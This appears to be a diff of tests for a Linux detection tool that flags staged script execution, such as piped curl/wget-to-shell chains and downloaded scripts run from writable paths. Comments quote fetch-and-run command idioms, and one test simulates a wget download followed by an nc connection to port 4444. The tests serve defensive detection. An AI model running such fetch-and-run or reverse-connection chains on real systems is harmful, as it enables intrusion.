@@ -15,9 +15,11 @@ from sensor.detect.view import WindowView
 from sensor.telemetry.stage import (
     FD_EXEC,
     MEMFD,
+    SCRIPT_FILE,
     STDIN_PIPE,
     STDIN_SOCKET,
     is_interpreter,
+    script_fd,
     script_from_stdin,
     stage_origin,
 )
@@ -103,7 +105,54 @@ def test_interpreter_on_a_file_or_tty_or_gone_is_no_stage(tmp_path: Path) -> Non
     fake_proc(tmp_path, 400, {0: ("/dev/pts/0", 2)})
     assert stage_origin(400, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path)) is None
     assert stage_origin(401, "/bin/sh", "/bin/sh", ["sh"], list, str(tmp_path)) is None  # exited
-    assert stage_origin(400, "/bin/sh", "/bin/sh", ["sh", "/app/run.sh"], list, str(tmp_path)) is None
+    # a script file: the rule judges where it is
+    o = stage_origin(400, "/bin/sh", "/bin/sh", ["sh", "/app/run.sh"], list, str(tmp_path))
+    assert o is not None and o.kind == SCRIPT_FILE and o.path == "/app/run.sh"
+
+
+@pytest.mark.parametrize(
+    ("source", "fd"),
+    [
+        ("-", 0),
+        ("/dev/stdin", 0),
+        ("/dev/fd/0", 0),
+        ("/proc/self/fd/0", 0),
+        ("/proc/thread-self/fd/0", 0),
+        ("/proc/1234/fd/5", 5),
+        ("/dev/fd/63", 63),  # bash <(curl ...)
+        ("/tmp/s.sh", None),
+        ("/dev/stdinx", None),
+        ("/proc/self/fdx/0", None),
+    ],
+)
+def test_script_fd(source: str, fd: int | None) -> None:
+    assert script_fd(source) == fd
+
+
+@pytest.mark.parametrize(
+    ("args", "fd"),
+    [
+        (["sh", "/dev/stdin"], 0),  # `wget -O- URL | sh /dev/stdin` (review)
+        (["sh", "/proc/self/fd/0"], 0),
+        (["bash", "/dev/fd/63"], 63),  # `bash <(curl URL)`
+        (["busybox", "sh", "--", "/dev/stdin"], 0),
+    ],
+)
+def test_a_script_operand_naming_a_pipe_is_a_piped_script(tmp_path: Path, args: list[str], fd: int) -> None:
+    """`sh /dev/stdin` and `sh /proc/self/fd/0` read the pipe `curl | sh`
+    does; they ran unnoticed (review)."""
+    fake_proc(tmp_path, 500, {fd: ("pipe:[888]", 0)})
+    fake_proc(tmp_path, 499, {1: ("pipe:[888]", 1)})
+    o = stage_origin(500, "/bin/sh", "/bin/sh", args, lambda: [499], str(tmp_path))
+    assert o is not None and o.kind == STDIN_PIPE and o.writers == (499,)
+
+
+def test_a_relative_script_is_under_the_working_directory(tmp_path: Path) -> None:
+    fake_proc(tmp_path, 600, {})
+    os.symlink("/tmp/work", tmp_path / "600" / "cwd")
+    o = stage_origin(600, "/bin/sh", "/bin/sh", ["sh", "./s.sh"], list, str(tmp_path))
+    assert o is not None and o.kind == SCRIPT_FILE and o.path == "/tmp/work/s.sh"
+    assert stage_origin(601, "/bin/sh", "/bin/sh", ["sh", "s.sh"], list, str(tmp_path)) is None  # gone
 
 
 @pytest.mark.parametrize(
@@ -195,6 +244,24 @@ def test_pipe_stage_with_an_exited_writer_uses_a_nearby_fetch(tmp_path: Path) ->
         ],
     )
     assert rules_of(h.run(v)) == ["SL-C2-001"]
+
+
+def test_a_downloaded_script_in_a_writable_path_is_a_stage(tmp_path: Path) -> None:
+    """`wget -O /tmp/s.sh URL; sh /tmp/s.sh`: the interpreter is no new
+    executable and nothing is piped, so the chain ran unnoticed (review).
+    A script under a writable path is a stage; one elsewhere is not."""
+    h = detector(config(tmp_path))
+    sh = staged(exec_(DROP, DET, "/bin/sh", ["sh", "/tmp/s.sh"], pid=31), origin=SCRIPT_FILE, script="/tmp/s.sh")
+    app = staged(exec_(DROP, DET, "/bin/sh", ["sh", "/app/run.sh"], pid=41), origin=SCRIPT_FILE, script="/app/run.sh")
+    fetch = connect(DROP, DET - 1, "198.51.100.5", 80, executable="/usr/bin/wget", pid=30)
+    out = connect(DROP, DET + 1, "203.0.113.66", 4444, executable="/usr/bin/nc", pid=32)
+    alerts = h.run(window(DET + 5, seconds=10, execs=[sh], connects=[fetch, out]))
+    assert rules_of(alerts) == ["SL-C2-001"]
+    ev = alerts[0]["sluice"]["evidence"]
+    assert ev["stage"] == "writable_script" and ev["chain"][1]["script"] == "/tmp/s.sh"
+    assert "the script /tmp/s.sh with /bin/sh" in alerts[0]["message"]
+    h2 = detector(config(tmp_path))
+    assert h2.run(window(DET + 5, seconds=10, execs=[app], connects=[fetch, out])) == []
 
 
 @pytest.mark.parametrize("origin", [MEMFD, FD_EXEC])
